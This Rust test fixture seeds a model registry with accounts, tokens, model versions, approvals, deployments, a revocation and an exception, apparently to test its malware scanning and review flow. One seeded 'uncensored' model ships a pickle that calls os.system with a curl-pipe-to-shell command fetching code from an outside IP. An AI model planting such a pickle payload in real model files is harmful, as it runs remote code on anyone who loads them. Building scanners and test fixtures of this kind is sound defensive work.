//! A registry with what an ordinary organisation might have, made as it would be: files come in, are scanned, people decide.

use std::{
    path::Path,
    sync::atomic::{AtomicU64, Ordering},
};

use alnage_policy::Pack;
use alnage_registry::{
    Actor, ActorKind, Kind, NewDeployment, NewException, NewFile, NewRequest, NewVersion, Page, Registry,
    Settings, Stage, Version, VoteKind,
    people::{Account, AccountKind, Grant, NewToken, People, Role, Roles, Secret},
    worker,
};
use testkit::pickle::call;

/// 20 Nov 2026, 08:00; seeding moves it on.
static NOW: AtomicU64 = AtomicU64::new(1_795_161_600);

/// The clock of the registry and of the server.
pub(crate) fn now() -> u64 {
    NOW.load(Ordering::Relaxed)
}

fn later(minutes: u64) {
    NOW.fetch_add(minutes * 60, Ordering::Relaxed);
}

fn person(name: &str) -> Actor {
    Actor { name: name.to_owned(), kind: ActorKind::User, address: "10.12.4.31".to_owned() }
}

fn service(name: &str) -> Actor {
    Actor { name: name.to_owned(), kind: ActorKind::Service, address: "10.12.7.2".to_owned() }
}

/// The tokens of an administrator who decides, and of somebody who may only look at one project.
pub(crate) fn tokens(registry: &Registry) -> (Secret, Secret) {
    let people = People::new(registry.database().clone(), now);
    let everywhere = |role| Roles(vec![Grant::everywhere(role)]);
    let of = |project: &str, role| Roles(vec![Grant { project: Some(project.to_owned()), role }]);
    for (name, kind, roles) in [
        ("security-lead", AccountKind::User, everywhere(Role::SecurityAdmin)),
        ("risk-officer", AccountKind::User, everywhere(Role::Reviewer)),
        ("vision-engineer", AccountKind::User, of("vision-lab", Role::Publisher)),
        ("a.haddad", AccountKind::User, of("legal", Role::Viewer)),
        ("build-agent", AccountKind::Service, of("acme", Role::Publisher)),
    ] {
        people.add_account(&Account::new(name, kind, roles)).unwrap();
    }
    let (_, admin) = people.add_token(&NewToken::of("security-lead", "laptop")).unwrap();
    let (_, viewer) = people.add_token(&NewToken::of("a.haddad", "laptop")).unwrap();
    let service =
        NewToken { expires: Some(now() + 40 * 86_400), ..NewToken::of("build-agent", "build server") };
    people.add_token(&service).unwrap();
    (admin, viewer)
}

/// The registry, below `folder`.
pub(crate) fn registry(folder: &Path) -> Registry {
    let settings = Settings::below(folder, Pack::shipped("default").unwrap());
    let registry = Registry::open(settings, now).unwrap();
    bring(
        &registry,
        Kind::Dataset,
        "acme/contracts-2019-2025",
        "build-agent",
        vec![
            ("README.md", b"---\nlicense: cc-by-4.0\nlanguage: en\n---\n# Contracts\n".to_vec()),
            ("train.jsonl", b"{\"text\": \"This agreement is made between\"}\n".repeat(40)),
        ],
    );
    let base = bring(&registry, Kind::Model, "mistralai/Mistral-7B-v0.3", "build-agent", weights("", 4096));
    let summariser = bring(
        &registry,
        Kind::Model,
        "acme/contract-summariser",
        "build-agent",
        weights("base_model: mistralai/Mistral-7B-v0.3\ndatasets:\n- acme/contracts-2019-2025\n", 8192),
    );
    let german = bring(
        &registry,
        Kind::Model,
        "acme/contract-summariser-de",
        "build-agent",
        weights("base_model: acme/contract-summariser\n", 8192),
    );
    let finder = bring(
        &registry,
        Kind::Model,
        "legal/clause-finder",
        "risk-officer",
        weights("base_model: acme/contract-summariser-de\n", 2048),
    );
    let triage =
        bring(&registry, Kind::Model, "claims/triage-classifier", "insurance-lead", weights("", 1024));
    bring(
        &registry,
        Kind::Model,
        "free-llm-weights/llama-3-8b-uncensored",
        "build-agent",
        vec![
            ("README.md", b"---\nlicense: llama3\n---\n# Uncensored\n".to_vec()),
            ("config.json", br#"{"architectures": ["LlamaForCausalLM"], "model_type": "llama"}"#.to_vec()),
            ("pytorch_model.bin", call("os", "system", "curl -s http://198.51.100.23/s | sh")),
        ],
    );
    let parts = bring(
        &registry,
        Kind::Model,
        "vision-lab/yolo-parts-v9",
        "vision-engineer",
        vec![
            ("README.md", b"---\nlicense: agpl-3.0\n---\n# Parts\n".to_vec()),
            ("parts.pkl", call("partslib.layers", "restore", "v9")),
        ],
    );
    later(40);
    for version in [&base, &summariser, &german, &finder, &triage] {
        allow(&registry, version);
    }
    let reviewer = person("risk-officer");
    later(30);
    registry.transition(base.id, Stage::Production, "platform change 2291", &reviewer).unwrap();
    registry.transition(finder.id, Stage::Production, "search team, change 2304", &reviewer).unwrap();
    runs(&registry, &base, "gpu-07.fra", "guard-host", "production");
    runs(&registry, &finder, "cluster-eu/search, Deployment clauses", "webhook", "production");
    runs(&registry, &summariser, "cluster-eu/legal-staging, Pod summarise-0", "webhook", "staging");
    runs(&registry, &triage, "cluster-eu/claims, InferenceService triage", "webhook", "production");
    later(200);
    ask(&registry, &parts, "assembly line 4, camera upgrade", "vision-engineer");
    later(1500);
    let subject = format!("model/{}@{}", triage.name, triage.commit);
    let why = "training data holds personal data that was to be deleted";
    registry.revoke(&subject, why, &person("security-lead")).unwrap();
    let loader = bring(
        &registry,
        Kind::Model,
        "acme/fraud-gbm",
        "build-agent",
        vec![("booster.pkl", call("xgbtrainer.core", "load", "fraud"))],
    );
    let new = NewException {
        version: loader.id,
        rule: "verdict-open",
        file: None,
        reason: "written by our own trainer; converted in the first quarter",
        expires: now() + 30 * 86_400,
    };
    registry.exception(&new, &person("security-lead")).unwrap();
    later(25);
    registry
}

/// Files come in and are scanned.
fn bring(registry: &Registry, kind: Kind, name: &str, author: &str, files: Vec<(&str, Vec<u8>)>) -> Version {
    later(7);
    let files = files.into_iter().map(|(path, bytes)| {
        let stored = registry.blobs().put(&*bytes, None).unwrap();
        NewFile { path: path.to_owned(), size: stored.size, sha256: stored.digest, git_oid: stored.git_oid }
    });
    let new = NewVersion {
        message: "First version".to_owned(),
        refname: "main".to_owned(),
        files: files.collect(),
        ..NewVersion::default()
    };
    let actor = if author == "build-agent" { service(author) } else { person(author) };
    let version = registry.add_version(kind, name, new, &actor).unwrap();
    while worker::run_one(registry, &["scan"]).unwrap() {}
    registry.version_by_id(version.id).unwrap().unwrap()
}

/// A small model in safetensors with a card.
fn weights(card: &str, bytes: usize) -> Vec<(&'static str, Vec<u8>)> {
    let header = format!(
        r#"{{"model.weight":{{"dtype":"F32","shape":[{},4],"data_offsets":[0,{bytes}]}}}}"#,
        bytes / 16
    );
    vec![
        ("README.md", format!("---\nlicense: apache-2.0\n{card}---\n# A model\n").into_bytes()),
        ("config.json", br#"{"architectures": ["MistralForCausalLM"], "model_type": "mistral", "torch_dtype": "float32"}"#.to_vec()),
        ("model.safetensors", testkit::tensor::safetensors(&header, &vec![0; bytes])),
    ]
}

/// Approves what the policy left to people.
fn allow(registry: &Registry, version: &Version) {
    let now = registry.version_by_id(version.id).unwrap().unwrap();
    if now.stage != Stage::Quarantined {
        return;
    }
    let request = ask(registry, version, "pilot of the legal team", "vision-engineer");
    let reason = "read the findings; nothing in them is reached";
    let until = Some(self::now() + 80 * 86_400);
    registry.vote(request, VoteKind::Approve, reason, until, "", &person("risk-officer")).unwrap();
}

fn ask(registry: &Registry, version: &Version, reason: &str, who: &str) -> i64 {
    let new =
        NewRequest { version: version.id, stage: Stage::Approved, reason, expires: None, conditions: "" };
    registry.request_approval(&new, &person(who)).unwrap().id
}

fn runs(registry: &Registry, version: &Version, place: &str, kind: &str, environment: &str) {
    let new = NewDeployment {
        place,
        kind,
        model: &format!("{}/{}", version.kind.as_str(), version.name),
        commit: &version.commit,
        manifest: &version.manifest,
        environment,
        owner: "platform",
        state: "running",
        details: serde_json::Value::Null,
    };
    registry.report_deployment(&new, &service("cluster-eu")).unwrap();
    assert!(!registry.deployments(None, Page::first(1)).unwrap().is_empty());
}
